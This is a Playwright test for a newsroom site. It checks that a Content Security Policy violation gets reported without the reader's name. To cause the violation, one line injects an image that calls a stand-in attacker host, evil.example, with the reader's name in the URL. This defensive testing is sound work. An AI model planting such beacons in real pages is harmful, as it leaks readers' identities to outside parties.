import { rmSync } from 'node:fs';
import { expect, test } from '@playwright/test';
import { makeNewsroom, story } from '../newsroom/write-newsroom.ts';
import { startSite, waitFor } from '../site/start-site.ts';

test('a page that breaks its policy is reported by the browser, without the address of the reader', async ({
  page,
  javaScriptEnabled,
}) => {
  test.skip(!javaScriptEnabled, 'the violation is planted by a script');
  const root = makeNewsroom({ 'articles/river/dam.md': story() });
  const site = await startSite(root);
  await page.goto(`${site.url}/river/dam?reader=jane`);
  await page.evaluate(() => {
    const picture = document.createElement('img');
    picture.src = 'https://evil.example/seen.png?by=jane';
    document.body.append(picture);
  });
  const isReported = (log: string) => log.includes('"directive":"img-src"');
  const log = await waitFor(async () => site.output(), isReported);
  expect(log).toContain('"directive":"img-src","blocked":"https://evil.example","path":"/river/dam"');
  expect(log).not.toContain('jane');
  await site.stop();
  rmSync(root, { recursive: true, force: true });
});
